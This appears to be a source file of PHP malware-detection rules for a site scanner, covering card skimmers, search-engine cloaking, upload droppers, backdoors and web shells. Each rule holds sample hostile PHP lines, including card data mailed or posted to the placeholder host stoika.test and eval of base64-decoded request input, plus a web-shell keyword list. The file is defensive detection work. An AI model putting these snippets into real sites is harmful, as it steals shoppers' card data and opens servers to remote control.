import type { Rule } from './rule.ts';
import { FEW_TOKENS, looksBad, MALICIOUS, SUSPICIOUS } from './rule-kinds.ts';

const CARD_HITS = {
  mail: `if ($_POST['cc_number']) { mail('stoika@stoika.test', 'x', print_r($_POST, true)); }`,
  write: `if ($_POST['cc_number']) { file_put_contents('stoika.log', json_encode($_POST), FILE_APPEND); }`,
  net: `if ($_POST['cc_number']) { $c = curl_init('https://stoika.test/'); curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query($_POST)); curl_exec($c); }`,
};

/** Fields of a card, as shops name them. */
const CARD_FIELDS = [
  ...['cc_number', 'cc_num', 'ccnum', 'cc_cid', 'cc_cvv', 'cc_cvc', 'cc_exp', 'cardnumber'],
  ...['card_number', 'card_num', 'card_cvc', 'card_cvv', 'cvv2'],
];

/** All that a form with a card sent is mailed away, kept, or sent elsewhere. */
const CARD_RULES: readonly Rule[] = (['mail', 'write', 'net'] as const).map((sink) => ({
  ...SUSPICIOUS,
  id: `php-cards-${sink}`,
  family: 'skimmer',
  when: [{ fact: `${sink}<-secret` }, { literals: CARD_FIELDS, atLeast: 1 }],
  hit: [CARD_HITS[sink]],
  miss: [
    `if (isset($_POST['cc_number'])) { $total = $_POST['total']; mail('a@b.test', 'x', $total); }`,
  ],
}));

/** Weaker: a person should look. */
export const ALERT_RULES: readonly Rule[] = [
  {
    ...SUSPICIOUS,
    id: 'php-shown-to-search-engines',
    family: 'spam',
    when: [
      { fact: 'odd:output' },
      {
        literals: ['googlebot', 'bingbot', 'yandexbot', 'baiduspider', 'slurp', 'msnbot', 'ahrefs'],
        atLeast: 2,
      },
    ],
    hit: [
      `if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents('https://stoika.test/?h=' . $_SERVER['HTTP_HOST']); }`,
    ],
    miss: [
      `if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo $page; }`,
      `echo file_get_contents('https://stoika.test/news.txt');`,
    ],
  },
  ...CARD_RULES,
  {
    ...SUSPICIOUS,
    id: 'php-unchecked-file',
    family: 'dropper',
    when: [{ fact: 'bare:path' }, { fact: 'write<-request' }, FEW_TOKENS, looksBad(-5)],
    hit: [`file_put_contents($_POST['name'], $_POST['text']);`],
    miss: [`file_put_contents('notes/' . basename($_POST['name']), $_POST['text']);`],
  },
  {
    ...SUSPICIOUS,
    id: 'php-unchecked-upload',
    family: 'uploader',
    when: [{ fact: 'bare:path' }, { fact: 'write<-upload' }, FEW_TOKENS, looksBad(-4)],
    hit: [`move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);`],
    miss: [`move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . md5($name) . '.jpg');`],
  },
  {
    ...SUSPICIOUS,
    id: 'php-request-call-quiet',
    family: 'backdoor',
    when: [{ tokens: '@ $any ( stripslashes (' }, { fact: 'argument<-request' }],
    hit: [`$f = $_REQUEST['q']; @$f(stripslashes($_REQUEST['z']));`],
    miss: [`$text = stripslashes($_REQUEST['z']);`],
  },
  {
    ...SUSPICIOUS,
    id: 'php-request-to-code-quiet',
    family: 'backdoor',
    when: [{ fact: 'code<-request' }, { fact: 'code<-decoded' }],
    hit: [`eval(base64_decode($_POST['stoika']));`],
    miss: [`$data = base64_decode($_POST['stoika']);`],
  },
  {
    ...MALICIOUS,
    id: 'php-strange-include',
    family: 'injection',
    when: [
      { feature: 'tokens:strangeIncludes', atLeast: 1 },
      { pattern: 'include\\s*["\']\\\\[x0-9]' },
    ],
    hit: [`@include "\\x2fvar\\x2fwww\\x2fstoika\\x2f.cache.ico";`],
    miss: [`include 'logo.svg';`],
  },
  {
    ...SUSPICIOUS,
    id: 'php-shell-words',
    family: 'shell',
    when: [
      {
        literals: [
          'c99shell',
          'r57shell',
          'b374k',
          'wso shell',
          'filesman',
          'web shell',
          'webshell',
          'safe_mode bypass',
          'backdoor',
          'back connect',
          'bind shell',
          'uname -a',
          '/etc/passwd',
          'hacked by',
        ],
        atLeast: 3,
      },
      looksBad(-3),
    ],
    hit: [`$about = 'c99shell, b374k, FilesMan'; system($_GET['stoika']);`],
    miss: [`$about = 'The /etc/passwd file lists accounts';`],
  },
];
